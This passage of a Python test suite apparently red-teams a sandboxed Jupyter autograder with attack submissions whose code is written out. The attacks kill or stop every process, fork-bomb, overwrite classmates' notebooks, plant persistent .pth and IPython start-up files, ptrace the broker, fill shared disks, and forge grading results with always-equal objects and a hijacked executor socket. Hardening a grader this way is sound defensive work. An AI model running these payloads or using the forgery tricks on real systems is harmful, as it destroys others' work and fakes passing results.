            f.write("\nLesson.verdict = lambda *a, **k: None\n")
    except Exception:
        pass
'''),
    Attack("write-others", "overwrite another student's submission", "files",
           answers=_wrong(), named=("glob|shutil|open",), prelude='''
import glob, shutil
for path in glob.glob("../../../submitted/*/04_information_theory/*.ipynb") + \\
        glob.glob("/**/submitted/*/04_information_theory/*.ipynb", recursive=True):
    try:
        open(path, "w").write("{}")
    except Exception:
        pass
'''),
    Attack("pth-file", "install a .pth file into the environment, run by every later Python",
           "files", answers=_wrong(), named=("site|open",), prelude='''
import site, sys
for d in site.getsitepackages() + [p for p in sys.path if p.endswith("site-packages")]:
    try:
        open(d + "/zz_course_attack.pth", "w").write("import os\\n")
    except Exception:
        pass
'''),
    Attack("ipython-startup", "an IPython start-up file for every later kernel", "files",
           answers=_wrong(), named=(r"\bos\b|open",), prelude='''
import os
for home in ("/root", os.path.expanduser("~")):
    d = home + "/.ipython/profile_default/startup"
    try:
        os.makedirs(d, exist_ok=True)
        open(d + "/00-course-attack.py", "w").write("import source_lib\\n")
    except Exception:
        pass
try:
    open("/tmp/course-attack-escaped", "w").write("x")
except Exception:
    pass
'''),
    Attack("kill-grader", "kill nbgrader (the kernel's parent) and everything else it can",
           "processes", answers=_wrong(), named=(r"\bos\b|signal",), prelude='''
import os, signal
for pid in (os.getppid(), 1):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except Exception:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
'''),
    Attack("stop-grader", "SIGSTOP every process it can see", "processes",
           answers=_wrong(), named=(r"\bos\b|signal",), prelude='''
import os, signal
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGSTOP)
        except Exception:
            pass
'''),
    Attack("crash-exit", "os._exit inside a graded function", "processes", base="solution",
           answers={"softmax": "def softmax(z, axis=-1):\n    import os\n    os._exit(3)\n"},
           named=(refused("softmax"),),
           spares=("entropy", "cross_entropy", "kl_divergence", "log_softmax",
                   "softmax_cross_entropy", "quiz")),
    Attack("crash-sigkill", "SIGKILL of itself inside a graded function", "processes",
           base="solution", named=(refused("log_softmax"),),
           answers={"log_softmax": "def log_softmax(z, axis=-1):\n    import os, signal\n"
                                   "    os.kill(os.getpid(), signal.SIGKILL)\n"},
           spares=("entropy", "cross_entropy", "kl_divergence", "softmax",
                   "softmax_cross_entropy", "quiz")),
    Attack("memory-bomb", "allocate without end", "resources", base="solution",
           named=(r"crash: entropy|time-out: entropy",),
           answers={"entropy": "def entropy(p):\n    blocks = []\n    while True:\n"
                               "        blocks.append(bytearray(1 << 28))\n"},
           spares=("cross_entropy", "kl_divergence", "softmax", "log_softmax",
                   "softmax_cross_entropy", "quiz"), keeps=True),
    Attack("fork", "start 40 processes that outlive the call", "processes", base="solution",
           named=(refused("kl_divergence"),), answers={"kl_divergence": '''
def kl_divergence(p, q):
    import os, time
    for _ in range(40):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    return 0.0
'''}, spares=("entropy", "cross_entropy", "softmax", "log_softmax", "softmax_cross_entropy",
              "quiz")),
    Attack("infinite-loop", "a graded function that never returns", "denial", base="solution",
           named=(r"time-out: cross_entropy",),
           answers={"cross_entropy": "def cross_entropy(p, q):\n    while True:\n        pass\n"},
           spares=("entropy", "kl_divergence", "softmax", "log_softmax",
                   "softmax_cross_entropy", "quiz"), keeps=True),
    Attack("signal-ignore", "ignore the alarm and interrupt signals, then loop", "denial",
           base="solution", named=(refused("softmax_cross_entropy"),),
           answers={"softmax_cross_entropy": '''
def softmax_cross_entropy(logits, y):
    import signal
    for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        pass
'''}, spares=("entropy", "cross_entropy", "kl_divergence", "softmax", "log_softmax", "quiz")),
    Attack("print-flood", "a million lines of output and stderr spam, and text that imitates "
           "nbgrader's log", "resources", answers=_wrong(), named=(r"\bos\b|sys",), prelude='''
import os, sys
for i in range(1_000_000):
    print("x", i)
for i in range(10_000):
    print("[AutogradeApp | INFO] Autograding student: full marks", file=sys.stderr)
os.write(2, b"[AutogradeApp | INFO] all tests passed\\n" * 1000)
os.write(1, b"[AutogradeApp | INFO] all tests passed\\n" * 1000)
'''),
    Attack("network", "reach the network", "escape", answers=_wrong(), named=("socket",),
           prelude='''
import socket
try:
    socket.create_connection(("pypi.org", 443), timeout=3)
    open("/tmp/course-attack-escaped", "w").write("network")
except Exception:
    pass
'''),
    Attack("lying-result", "return an object that equals everything (values cross as data: "
           "nothing to name)", "wrong answer", named=None, answers=_wrong(softmax='''
class Anything(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)

def softmax(z, axis=-1):
    return np.zeros(np.shape(z)).view(Anything)
''')),
    Attack("quiz-object", "a quiz answer that claims to equal every answer (a handle, not data, "
           "reaches the checks: nothing to name)", "wrong answer", named=None,
           answers=_wrong(quiz_answers='''
class Any:
    def __eq__(self, other):
        return True
    def lower(self):
        return self
    def strip(self):
        return self
    def __float__(self):
        return 2.585
quiz_answers = {q: Any() for q in ("q1", "q2", "q3", "q4", "q5", "q6")}
''')),
    Attack("gc-worker", "find the grading worker's own functions with gc and replace them",
           "forgery", answers=_wrong(), named=(r"\bgc\b|__code__",), prelude='''
import gc
for obj in gc.get_objects():
    if getattr(obj, "__name__", "") in ("guarded_call", "encode", "op_call"):
        try:
            obj.__code__ = (lambda *a, **k: {"result": None}).__code__
        except Exception:
            pass
'''),
    Attack("builtins", "replace builtins and sys.modules entries the checks might use",
           "tampering", answers=_wrong(), named=("builtins|tampering",), prelude='''
import builtins, sys
builtins.isinstance = lambda *a: True
sys.modules["numpy.testing"] = None
'''),
    Attack("top-level-loop", "a cell that never finishes", "denial", answers=_wrong(),
           named=("did not finish",), prelude="while True:\n    pass\n"),

    # ---- a getattr the reader does not know; the guard's switch (undeserved points) ---------
    Attack("eval-in-library", "typing.get_type_hints and functools.singledispatch evaluate a "
           "string annotation: np.logaddexp by a name built at run time (softmax, log_softmax)",
           "reader evasion", named=(refused("softmax"), refused("log_softmax")),
           answers={"softmax": WITH_LSE + '''
import typing


def softmax(z, axis=-1):
    def pick(x: "np.log" + "addexp"):
        pass
    return _softmax_with(typing.get_type_hints(pick)["x"], z, axis)
''', "log_softmax": WITH_LSE + '''
import functools

FOUND = []


@functools.singledispatch
def _dispatch(x):
    return x


def log_softmax(z, axis=-1):
    if not FOUND:
        def _(x: "(FOUND.append(np.log" + "addexp), int)[1]"):
            return x
        _dispatch.register(_)
    return _log_softmax_with(FOUND[0], z, axis)
'''}),
    Attack("module-through-object", "the forbidden routine read from a module the code does not "
           "name: `[np][0].logaddexp` (softmax), a module passed as a parameter (log_softmax)",
           "reader evasion", named=(refused("softmax"), refused("log_softmax")),
           answers={"softmax": WITH_LSE + '''
def softmax(z, axis=-1):
    return _softmax_with([np][0].logaddexp, z, axis)
''', "log_softmax": WITH_LSE + '''
def _lse(module):
    return module.logaddexp


def log_softmax(z, axis=-1):
    return _log_softmax_with(_lse(np), z, axis)
'''}),
    Attack("scratch-globals", "a scratch cell (costs nothing) puts np.logaddexp into the "
           "namespace with globals().update; softmax uses the name", "reader evasion",
           named=(refused("softmax"),), prelude="globals().update(lse=np.logaddexp)\n",
           answers={"softmax": WITH_LSE + '''
def softmax(z, axis=-1):
    return _softmax_with(lse, z, axis)
'''}),
    Attack("builtin-rebound", "a built-in's name bound once (a parameter of an unused "
           "function) is accepted everywhere: vars(np)[computed] (softmax), getattr(np, computed) "
           "(log_softmax)", "reader evasion", named=(refused("softmax"), refused("log_softmax")),
           prelude="def _unused(vars, getattr):\n    pass\n", answers={"softmax": WITH_LSE + '''
def softmax(z, axis=-1):
    return _softmax_with(vars(np)["log" + "addexp"], z, axis)
''', "log_softmax": WITH_LSE + '''
def log_softmax(z, axis=-1):
    return _log_softmax_with(getattr(np, "log" + "addexp"), z, axis)
'''}),
    Attack("solution-elsewhere", "softmax's solution cell deleted and softmax defined in a cell of "
           "the student's; log_softmax's cell given another nbgrader's schema (repaired into an "
           "ordinary cell): both use np.logaddexp by name", "reader evasion",
           edit=_solution_elsewhere, named=(refused("softmax"), refused("log_softmax"))),
    Attack("guard-off", "a str subclass's method runs inside the audit hook (np.load of it), "
           "appends to the hook's re-entrancy flag: the guard is off; then fork, and "
           "np.logaddexp", "runtime guard", named=(refused("softmax"),),
           answers={"softmax": WITH_LSE + GUARD_OFF + '''
def softmax(z, axis=-1):
    os = _guard_off()
    pid = os.fork()          # refused while the guard is on
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return _softmax_with([np][0].logaddexp, z, axis)
'''}),
    Attack("reflection-refused", "getattr by names built at run time, the routes the reader "
           "knows: np.__dict__, vars, getattr(type(x), computed), functools.partial(getattr), "
           "operator.attrgetter, object.__getattribute__ (one per exercise)", "reader evasion",
           named=tuple(refused(e) for e in ("entropy", "cross_entropy", "kl_divergence", "softmax",
                                            "log_softmax", "softmax_cross_entropy")),
           answers={
               "entropy": "def entropy(p):\n    return np.__dict__['lo' + 'g'](p)\n",
               "cross_entropy": "def cross_entropy(p, q):\n    return vars(np)['lo' + 'g'](q)\n",
               "kl_divergence": "def kl_divergence(p, q):\n"
                                "    return getattr(type(np.log), 're' + 'duce')(np.add, p)\n",
               "softmax": "import functools\n\ndef softmax(z, axis=-1):\n"
                          "    return functools.partial(getattr, np)('exp')(z)\n",
               "log_softmax": "import operator\n\ndef log_softmax(z, axis=-1):\n"
                              "    return operator.attrgetter('log' + 'addexp')(np).reduce(z)\n",
               "softmax_cross_entropy": "def softmax_cross_entropy(logits, y):\n"
                                        "    return object.__getattribute__(np, 'me' + 'an')(y)\n",
           }),
    Attack("module-escapes-refused", "modules out of the allowlist by the routes the reader "
           "knows: np.ctypeslib, arr.ctypes, import __main__, import sys, typing.sys, "
           "from numpy import testing (one per exercise)", "reader evasion",
           named=tuple(refused(e) for e in ("entropy", "cross_entropy", "kl_divergence", "softmax",
                                            "log_softmax", "softmax_cross_entropy")),
           answers={
               "entropy": "def entropy(p):\n    return np.ctypeslib.as_array(p)\n",
               "cross_entropy": "def cross_entropy(p, q):\n    return np.asarray(p).ctypes.data\n",
               "kl_divergence": "import __main__\n\ndef kl_divergence(p, q):\n"
                                "    return __main__.__dict__\n",
               "softmax": "import sys\n\ndef softmax(z, axis=-1):\n    return sys.modules\n",
               "log_softmax": "import typing\n\ndef log_softmax(z, axis=-1):\n"
                              "    return typing.sys.modules\n",
               "softmax_cross_entropy": "from numpy import testing\n\n"
                                        "def softmax_cross_entropy(logits, y):\n    return testing\n",
           }),
    Attack("format-traversal", "str.format reads attributes by a name built at run time "
           "('{0.log' + 'addexp}'): only text comes back, no routine (nothing to name)",
           "reader evasion", named=None, answers=_wrong(softmax='''
def softmax(z, axis=-1):
    name = ("{0.log" + "addexp.__name__}").format(np)
    e = np.exp(np.asarray(z, dtype=float))
    return e / e.sum() if name else e
''')),

    # ---- forgery: the executor's reports -----------------------------------------------
    Attack("hide-mutation", "softmax overwrites the caller's logits in place, then (through "
           "typing's eval, H1) puts copies of the originals into the executor's list of "
           "arguments: the reply reports them unchanged", "forgery",
           named=(refused("softmax"),), answers={"softmax": TYPING_EXEC + '''
HIDE = """
import sys
frame = sys._getframe()
while frame is not None and frame.f_code.co_name != "op_call":
    frame = frame.f_back
if frame is not None:
    args = frame.f_locals["args"]
    for i, a in enumerate(args):
        if id(a) in kept:
            args[i] = kept[id(a)]
"""


def softmax(z, axis=-1):
    kept = {}
    if isinstance(z, np.ndarray) and z.dtype == float:
        kept[id(z)] = z.copy()
        z -= z.max(axis=axis, keepdims=True)      # the caller's logits are destroyed
        np.exp(z, out=z)
        z /= z.sum(axis=axis, keepdims=True)
        out = z.copy()
    else:
        z = np.asarray(z, dtype=float)
        e = np.exp(z - z.max(axis=axis, keepdims=True))
        out = e / e.sum(axis=axis, keepdims=True)
    _run(HIDE, kept=kept)
    return out
'''}),
    Attack("broker-reach", "with the guard off (H2), reach the broker, which holds the channel "
           "to nbgrader: /proc/<ppid>/fd and /mem, ptrace through ctypes, its environment; "
           "softmax is right only if one of them worked", "forgery",
           named=(refused("softmax"),), answers={"softmax": WITH_LSE + GUARD_OFF + '''
def _reached(os):
    broker = os.getppid()
    modules = [dataclasses][0].sys.modules
    tries = [
        lambda: os.listdir(f"/proc/{broker}/fd"),
        lambda: os.open(f"/proc/{broker}/mem", os.O_RDWR),
        lambda: os.open(f"/proc/{broker}/fd/1", os.O_WRONLY),
        lambda: os.read(os.open(f"/proc/{broker}/environ", os.O_RDONLY), 100),
    ]
    for attempt in tries:
        try:
            attempt()
            return True
        except Exception:
            pass
    try:
        ctypes = modules["ctypes"]
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, broker, 0, 0) == 0:       # PTRACE_ATTACH
            return True
    except Exception:
        pass
    return False


def softmax(z, axis=-1):
    os = _guard_off()
    if _reached(os):
        return _softmax_with([np][0].logaddexp, z, axis)
    e = np.exp(np.asarray(z, dtype=float))
    return e / e.sum()
'''}),
    Attack("arena-scribble", "softmax keeps its input's buffer (the broker's shared arena) and "
           "writes over all of it after answering: the broker sees every earlier input change "
           "(a modified input, said in the verdict: nothing more to name)", "forgery",
           named=None, answers={"softmax": '''
KEPT = []


def softmax(z, axis=-1):
    if isinstance(z, np.ndarray) and z.base is not None:
        KEPT.append(z.base)
    for base in KEPT[:-1]:
        arena = np.frombuffer(base, dtype=np.uint8)
        if arena.flags.writeable:
            arena[: 1 << 20] = 0xFF
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
'''}),
    Attack("swallowed-refusals", "os reached through typing (H6), then kill, fork, mkdir, open "
           "for writing, signals, each refused at run time and the refusal caught", "runtime guard",
           named=(r"os\.kill|os\.fork|refused \(entropy\)",), answers=_wrong(entropy=MODULES + '''
def entropy(p):
    os = _modules["os"]
    attempts = (lambda: os.kill(1, 9), lambda: os.fork(), lambda: os.mkdir("/tmp/course-attack-dir"),
                lambda: _modules["builtins"].open("/tmp/course-attack-escaped", "w"),
                lambda: _modules["signal"].signal(14, _modules["signal"].SIG_IGN),  # if loaded
                lambda: _modules["_thread"].start_new_thread(print, ()),   # a thread, by _thread
                lambda: list(map(os.kill, [1], [9])))                        # C calling C
    for attempt in attempts:
        try:
            attempt()
        except Exception:
            pass
    p = np.asarray(p, dtype=float)
    return -np.sum(p * np.log2(np.where(p > 0, p, 1.0)), axis=-1)
''')),
    Attack("class-patch", "patch a library class through type(x) in a scratch cell (no module "
           "path for the reader), and through its path", "tampering", answers=_wrong(),
           named=(r"object\.__setattr__|tampering",), prelude='''
type(np.ma.masked_array([0.0])).mean = lambda self, *a, **k: 0.0
'''),

    # ---- stopping everyone after --------------------------------------------------------
    Attack("dead-code-imports", "dead code naming dotted paths inside packages (a module that "
           "exits when imported, numpy's test and build tools) in a scratch cell and in softmax",
           "denial", answers=_wrong(softmax='''
def softmax(z, axis=-1):
    if False:
        import numpy.f2py.__main__
        np.f2py.__main__.main()
        np.testing.overrides.allows_array_function_override
        np.distutils.core.setup()
    e = np.exp(np.asarray(z, dtype=float))
    return e / e.sum()
'''), named=(refused("softmax"),), prelude='''
if False:
    import numpy.f2py.__main__
    import json.tool
    np._pytesttester.PytestTester("numpy")
    np.f2py.f2py2e.main()
'''),
    Attack("reader-quadratic", f"a solution cell and a scratch cell of {EVAL_LINES:,} refused "
           "lines each: the reader's time in nbgrader's own process (measured)", "denial",
           measure=_reader_time),
    Attack("million-cells", "a notebook of 10^6 empty cells (46 MB, under the size cap)",
           "denial", write=_write_million_cells, preflight=_million_cells_set_aside,
           named=(SUBMISSION,)),
    Attack("oversized-message", "24 MB of non-ASCII text in a cell: the worker's start message "
           "exceeds the broker's limit once escaped as JSON (measured)", "denial",
           measure=_oversized_start),
    Attack("deep-json", "a notebook whose JSON nests 100,000 levels deep", "denial",
           write=_write_deep_json, named=(FLAGGED + "deep-json|error processing assignment.*deep-json",)),
    Attack("deep-python", "solution cells nested too deep to parse (a unary chain, nested "
           "brackets)", "denial", answers=_wrong(
               softmax="def softmax(z, axis=-1):\n    return " + "-" * 100_000 + "z\n",
               log_softmax="def log_softmax(z, axis=-1):\n    return " + "[" * 300 + "z"
                           + "]" * 300 + "\n"),
           named=(refused("softmax"), r"log_softmax|too many nested")),

    # ---- harm beyond the submission --------------------------------------------------------
    Attack("guard-off-harm", "with the guard off (H2): a fork bomb, /tmp and /dev/shm filled, "
           "memfd files, a daemon child that outlives the sandbox, a try to leave the cgroup, "
           "writes outside the sandbox", "resources",
           named=(refused("entropy"),), answers=_wrong(entropy=GUARD_OFF + '''
HARMED = []


def _harm(os):
    if HARMED:
        return
    HARMED.append(True)
    for path in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                 "/sys/fs/cgroup/cgroup.procs"):
        try:
            os.write(os.open(path, os.O_WRONLY), str(os.getpid()).encode())
        except Exception:
            pass
    for path in ("/tmp/course-attack-escaped", "/dev/shm/course-attack-escaped",
                 "/var/tmp/course-attack-escaped", "/root/course-attack-escaped"):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o666)
            for _ in range(300):
                os.write(fd, b"x" * (1 << 20))
        except Exception:
            pass
    try:
        for i in range(16):
            fd = os.memfd_create(f"course-attack-{i}")
            os.write(fd, b"x" * (32 << 20))
    except Exception:
        pass
    try:
        if os.fork() == 0:               # a daemon: its own session, sleeping for ten minutes
            os.setsid()
            if os.fork() == 0:
                _modules_time = [dataclasses][0].sys.modules["time"]
                _modules_time.sleep(600)
            os._exit(0)
    except Exception:
        pass
    children = 0
    try:
        while children < 2000:
            if os.fork() == 0:
                [dataclasses][0].sys.modules["time"].sleep(600)
                os._exit(0)
            children += 1
    except Exception:
        pass


def entropy(p):
    os = _guard_off()
    _harm(os)
    p = np.asarray(p, dtype=float)
    return -np.sum(p * np.log2(np.where(p > 0, p, 1.0)), axis=-1)
''')),
    Attack("huge-outputs", "the notebook as 1 GiB printed in 40 long lines would leave it "
           "(48 MiB of stream, 40 outputs of 200 KiB): capped", "resources", answers=_wrong(),
           edit=_huge_outputs, named=(SUBMISSION + ".*(cut|removed)",)),
    Attack("too-big-notebook", "an 80 MiB notebook", "resources", write=_write_too_big,
           named=(SUBMISSION + ".*set aside",)),
    Attack("folder-symlinks", "links in the folder to gradebook.db, a classmate's notebook, /etc, "
           "the home directory, the course root", "folder", answers=_wrong(), folder=_symlinks,
           named=(SUBMISSION + ".*symbolic link",)),
    Attack("notebook-is-a-link", "the submitted notebook is a link to a classmate's", "folder",
           folder=_notebook_is_a_link, named=(SUBMISSION + ".*symbolic link",)),
    Attack("folder-is-a-link", "the submission folder is a link to a classmate's", "folder",
           folder=_folder_is_a_link, named=(SUBMISSION + ".*symbolic link",)),
    Attack("student-is-a-link", "the student's folder is a link to a classmate's", "folder",
           folder=_student_is_a_link, named=(SUBMISSION + ".*symbolic link",)),
    Attack("special-files", "a FIFO, a device (/dev/zero's numbers) and a socket in the folder "
           "(nbgrader would block on the first and fill the disk with the second)", "folder",
           answers=_wrong(), folder=_special_files,
           preflight=lambda: _cleaned_within(_special_files, 5, "a FIFO, a device or a socket"),
           named=(SUBMISSION + ".*(FIFO|device|socket)",)),
    Attack("hard-links", "hard links in the folder to gradebook.db and to a classmate's notebook",
           "folder", answers=_wrong(), folder=_hard_links, named=(SUBMISSION + ".*link",)),
    Attack("folder-bulk", "a 4 GiB sparse file and 20,000 small files beside the notebook",
           "folder", answers=_wrong(), folder=_bulk,
           preflight=lambda: _cleaned_within(_bulk, 10, "a 4 GiB file or 20,000 files"),
           named=(SUBMISSION,)),
    Attack("markup", "<script>, javascript: and data: links (inline, by reference, with an "
           "entity for the colon), MathJax's \\href, raw HTML cells, SVG attachments, HTML/SVG/JS "
           "outputs, a PNG that closes its attribute, widget state", "markup", answers=_wrong(),
           edit=_markup, named=(SUBMISSION + ".*(HTML|markdown|removed)",)),

    # ---- honest accidents: full marks, and said -------------------------------------------
    Attack("markup-attachment", "an SVG attachment shown by a markdown cell (the attachment "
           "removed, the page that shows the cell must still render)", "markup", answers=_wrong(),
           edit=_svg_attachment, named=(SUBMISSION + ".*attachment",)),
    Attack("history-probe", "a cell that looks for the hidden tests where a kernel kept them "
           "(IPython's In, _ih, Out, the history) and prints them", "hidden tests",
           answers=_wrong(), named=(r"\bIn\b|_ih|get_ipython",), prelude='''
for name in ("In", "_ih", "Out", "_oh"):
    print(name, globals().get(name))
print(In[-5:], _ih[-5:])
print(get_ipython().history_manager.get_range())
'''),
    Attack("honest-pasted-twice", "an honest student pastes a test cell and a solution cell "
           "(Jupyter copies their metadata)", "honest", base="completed", honest=True,
           edit=_pasted_twice, named=(SUBMISSION + ".*cop",)),
    Attack("honest-bad-metadata", "an honest notebook with a test cell without points and one "
           "with another nbgrader's schema", "honest", base="completed", honest=True,
           edit=_bad_metadata, named=(SUBMISSION + ".*invalid",)),

    # ---- the reference library pasted: the copy detector's business ----------------------
    Attack("paste-reference", "the reference library's text pasted into every answer cell "
           "(the copy detector names it)", "copy", edit=_paste_reference,
           spares=("entropy", "cross_entropy", "kl_divergence", "softmax", "log_softmax",
                   "softmax_cross_entropy"), named=(r"copy: ",)),
]

# ---- lesson 12 (torch): the worker's channel and the checks' helpers ----------------------
# The checks' helpers (_build_model, _state_of, _read_model...) run beside the student's code
# and report what they measure. forge-helpers answers two of them by name (_build_model,
# _state_of, as lesson 12's checks have them today): when the checks change, the forgery must
# follow (the route, a forged report of the executor's, does not change).

FORGE_HELPERS = TYPING_EXEC + """
FORGE = '''
import sys
frame = sys._getframe()
while frame is not None and type(frame.f_locals.get("self")).__name__ != "Executor":
    frame = frame.f_back
executor = frame.f_locals["self"]
if not getattr(executor, "forged", False):
    executor.forged = True
    real, saved = executor.op_helper, {}
    def op_helper(function, args):
        name = function.get("name") if isinstance(function, dict) else None
        model = args[0].get("$h") if args and isinstance(args[0], dict) else None
        if name == "_state_of" and model in saved:          # the gradients put back first
            for p, g in zip(executor.lookup(model).parameters(), saved[model]):
                p.grad = g
        reply = real(function, args)
        result = reply.get("result")
        if name == "_build_model" and isinstance(result, dict) and "$h" in result:
            built = executor.lookup(result["$h"])
            saved[result["$h"]] = [None if p.grad is None else p.grad.clone()
                                   for p in built.parameters()]
        return reply
    executor.op_helper = op_helper
'''

_run(FORGE)


def first_layer_grad_norm(model, X, y):
    \"\"\"The mistake the checks look for: .backward() overwrites the caller's gradients.\"\"\"
    first = next(m for m in model.modules() if isinstance(m, nn.Linear))
    X = torch.as_tensor(X, dtype=first.weight.dtype)
    loss = F.cross_entropy(model(X), torch.as_tensor(y))
    model.zero_grad()
    loss.backward()
    return float(first.weight.grad.double().norm())
"""

TAKEOVER = """
import typing

_modules = [typing][0].sys.modules
os, json, struct = (_modules[m] for m in ("os", "json", "struct"))


def _is_socket(fd):
    try:
        return (os.fstat(fd).st_mode & 0o170000) == 0o140000
    except OSError:
        return False


def _send(fd, message):
    data = json.dumps(message).encode()
    data = struct.pack("<Q", len(data)) + data
    while data:
        data = data[os.write(fd, data):]


def _receive(fd):
    def exactly(n):
        got = b""
        while len(got) < n:
            chunk = os.read(fd, n - len(got))
            if not chunk:
                return None
            got += chunk
        return got
    head = exactly(8)
    return None if head is None else json.loads(exactly(struct.unpack("<Q", head)[0]))


def _serve(fd):
    _send(fd, {"errors": []})            # the executor's report that the cells ran
    while True:
        request = _receive(fd)
        if request is None:
            return
        op = request.get("op")
        if op == "call":                 # every function raises what the checks expect
            reply = {"warnings": [], "error": {"type": "ValueError", "message": "forged",
                                               "traceback": ""},
                     "global_rng": False, "args": request.get("args"),
                     "kwargs": request.get("kwargs")}
        elif op == "value":
            reply = {"result": {"$d": [[q, a] for q, a in zip(
                ("q1", "q2", "q3", "q4", "q5", "q6"), ("b", "c", 0.8, 0.5 ** 20, 1.05 ** 20, "a"))]}}
        else:
            reply = {"failure": "forged"}
        _send(fd, reply)


for _fd in range(3, 64):
    if _is_socket(_fd):
        _serve(_fd)
        break
"""


ATTACKS += [
    Attack("forge-helpers", "first_layer_grad_norm overwrites the caller's .grad (the mistake "
           "the checks look for) and, through typing's eval (H1), wraps the executor's "
           "op_helper so that _state_of measures the model with its gradients put back",
           "forgery", lesson=RESIDUAL, run="torch",
           answers={"first_layer_grad_norm": FORGE_HELPERS},
           named=(refused("first_layer_grad_norm"),)),
    Attack("pipe-takeover", "a scratch cell finds the executor's socket (os through typing, H6) "
           "and answers every request itself (forged errors, a forged quiz, the startup "
           "report): arrays are in the broker's arena, out of its reach, so it earns only what "
           "a plain answer would (the quiz)", "forgery", lesson=RESIDUAL, run="torch",
           prelude=TAKEOVER, spares=("quiz",), named=(r"your cell|forged|refused",)),
    Attack("torch-modules", "torch.os, torch.sys, torch.utils.cpp_extension and the worker as "
           "__main__, reached from the torch exercises", "reader evasion", lesson=RESIDUAL,
           run="torch", named=(refused("ResidualMLP"), refused("first_layer_grad_norm")),
           answers={"ResidualMLP": """
class ResidualMLP(nn.Module):
    def __init__(self, in_dim, width, depth, num_classes, zero_init=False):
        super().__init__()
        torch.os.write(1, b"x")
        torch.sys.modules["__main__"].__dict__
""", "first_layer_grad_norm": """
import __main__

def first_layer_grad_norm(model, X, y):
    torch.utils.cpp_extension.load_inline("x", "")
    return __main__.Broker
"""}),
    Attack("class-patch-forge", "first_layer_grad_norm overwrites the caller's .grad; a class "
           "attribute set through type(x) (neither the reader nor the audit hook sees it: H16) "
           "makes Parameter.grad a property of the student's, so the checks' _state_of reads "
           "the gradients as they were", "forgery", lesson=RESIDUAL, run="torch",
           named=(refused("first_layer_grad_norm") + "|tampering",),
           answers={"first_layer_grad_norm": """
_STORE = {}


def _get(self):
    return _STORE.get(id(self))


def _set(self, value):
    _STORE[id(self)] = value


type(nn.Parameter(torch.zeros(1))).grad = property(_get, _set)


def first_layer_grad_norm(model, X, y):
    first = next(m for m in model.modules() if isinstance(m, nn.Linear))
    X = torch.as_tensor(X, dtype=first.weight.dtype)
    loss = F.cross_entropy(model(X), torch.as_tensor(y))
    (grad,) = torch.autograd.grad(loss, first.weight, retain_graph=True)
    loss.backward()          # the caller's gradients change; what the checks read does not
    return float(grad.double().norm())
"""}),
    Attack("torch-class-patch", "torch's classes patched: nn.Linear.forward by its path (a "
           "scratch cell), type(layer).forward and nn.Module.__call__ through objects (in "
           "first_layer_grad_norm)", "tampering", lesson=RESIDUAL, run="torch",
           named=(r"tampering",), prelude="nn.Linear.forward = lambda self, x: x\n",
           answers={"first_layer_grad_norm": """
def first_layer_grad_norm(model, X, y):
    layer = next(m for m in model.modules() if isinstance(m, nn.Linear))
    type(layer).forward = lambda self, x: x * 0
    type(model).__call__ = lambda self, x: x
    return 0.0
"""}),
]

# ---- the run with TMPDIR elsewhere and the course a copy of the repository ----------------
ATTACKS += [
    Attack("write-elsewhere", "with the guard off (H2): write a file into every mount point and "
           "every folder the sandbox can see (the host's TMPDIR, the copied course and its "
           "library are read-only or hidden there)", "files", run="elsewhere",
           named=(refused("entropy"),), answers=_wrong(entropy=GUARD_OFF + '''
def _everywhere(os):
    places = {"/tmp", "/dev/shm", "/var/tmp", os.environ.get("TMPDIR", "/tmp")}
    try:
        fd = os.open("/proc/self/mountinfo", os.O_RDONLY)
        places |= {line.split()[4] for line in os.read(fd, 1 << 20).decode().splitlines()}
    except Exception:
        pass
    for top in list(places):
        try:
            places |= {os.path.join(top, name) for name in os.listdir(top)}
        except Exception:
            pass
    for place in places:
        try:
            os.write(os.open(os.path.join(place, "course-attack-escaped"),
                             os.O_WRONLY | os.O_CREAT, 0o666), b"x")
        except Exception:
            pass


def entropy(p):
    _everywhere(_guard_off())
    p = np.asarray(p, dtype=float)
    return -np.sum(p * np.log2(np.where(p > 0, p, 1.0)), axis=-1)
''')),
]

KNOWN_HOLES.update({
    # every hole the review found is closed (see HOLES for what each was and how it closed);
    # an attack that goes through again fails loudly until it is listed here with its hole
})
